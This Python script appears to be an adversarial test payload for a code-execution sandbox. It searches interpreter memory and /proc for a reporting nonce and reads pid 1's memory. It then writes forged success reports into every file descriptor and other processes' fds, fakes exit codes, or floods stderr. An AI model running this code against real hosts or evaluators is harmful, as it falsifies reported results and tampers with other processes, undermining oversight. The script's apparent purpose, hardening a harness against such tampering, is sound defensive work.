# Threat: forge how the host accounts the run. The code digs through the interpreter that runs it
# (frames, gc, inspect) and through /proc (pid 1's memory and fds, every process's fds) for a reporting
# secret or channel, then writes forged reports and end marks everywhere it can: to stdout, stderr,
# every fd number 0..1023 and every /proc/<pid>/fd it can open. Modes (PARAMS["mode"]):
#   bad_exit     a report whose exit field is not an integer, then a normal end
#   fake_exit    a report claiming success, then os._exit(PARAMS["real_exit"])
#   stderr_flood a stderr end mark, then an endless stderr flood
#   every_fd     forged reports into fds 0..1023 and /proc/*/fd/*, then result = "real"
# Safety valve: the flood stops after PARAMS["flood_mb"] MiB.
import base64
import contextlib
import gc
import inspect
import json
import os
import sys

P = globals().get("PARAMS") or {}
MODE = P.get("mode", "every_fd")


def b64(text):
    return base64.b64encode(text.encode()).decode()


def hunt():
    """Return every marker-like bytes/str found in frames, gc and inspect (the old trailer's nonce)."""
    found = set()

    def look(value):
        if isinstance(value, (bytes, bytearray)) and b"codebot-" in value and len(value) < 200:
            found.add(bytes(value))
        elif isinstance(value, str) and len(value) == 32 and all(c in "0123456789abcdef" for c in value):
            found.add(value.encode())

    frame = sys._getframe()
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            for value in list(scope.values()):
                look(value)
        frame = frame.f_back
    for info in inspect.stack():
        for value in list(info.frame.f_locals.values()):
            look(value)
    for obj in gc.get_objects():
        if isinstance(obj, dict):
            for value in list(obj.values()):
                look(value)
    return sorted(found)


def forged(exit_field):
    """Forged reports in every framing this program can think of, with and without the found marks."""
    fields = [exit_field, "-", b64("'forged'"), "-"]
    lines = [" ".join(fields).encode() + b"\n", b"R - " + b64("'forged'").encode() + b" -\n"]
    frames = [b"READY\n" + lines[1], b"E\n"]
    for mark in MARKS:
        if mark.startswith(b"\x00"):
            frames += [mark + line for line in lines]
        else:
            frames += [b"\x00\x1ecodebot-" + mark + b"\x1e" + line for line in lines]
    return frames + lines


def proc_dig():
    """Try pid 1's memory and every fd of every visible process; write forged reports into what opens."""
    out = {}
    try:
        with open("/proc/1/mem", "rb") as f:
            out["/proc/1/mem"] = "OK read " + str(len(f.read(1)))
    except OSError as e:
        out["/proc/1/mem"] = f"ERR {type(e).__name__} errno={e.errno}"
    opened = []
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError as e:
            out[f"/proc/{pid}/fd"] = f"ERR {type(e).__name__} errno={e.errno}"
            continue
        for fd in fds:
            path = f"/proc/{pid}/fd/{fd}"
            try:
                wfd = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
            except OSError:
                continue
            opened.append(path)
            for frame in forged("MA=="):
                with contextlib.suppress(OSError):
                    os.write(wfd, frame)
            os.close(wfd)
    out["opened"] = opened
    return out


MARKS = hunt()
report = {"mode": MODE, "marks_found": len(MARKS)}
if MODE == "bad_exit":
    sys.stdout.flush()
    for frame in forged(b64("not-an-int")):
        os.write(1, frame)
    result = "real"
elif MODE == "fake_exit":
    for frame in forged("MA=="):
        os.write(1, frame)
    print("REPORT " + json.dumps(report), flush=True)
    os._exit(int(P.get("real_exit", 7)))
elif MODE == "stderr_flood":
    print("REPORT " + json.dumps(report), flush=True)
    for frame in forged("MA=="):
        os.write(2, frame)
    chunk = b"e" * 65536
    for _ in range(int(P.get("flood_mb", 64)) * 16):
        os.write(2, chunk)
else:
    report.update(proc_dig())
    written = []
    for fd in range(1024):
        if fd in (1, 2):
            continue
        for frame in forged("MA=="):
            try:
                os.write(fd, frame)
                written.append(fd)
            except OSError:
                pass
    report["fds_written"] = sorted(set(written))
    print("REPORT " + json.dumps(report), flush=True)
    result = "real"
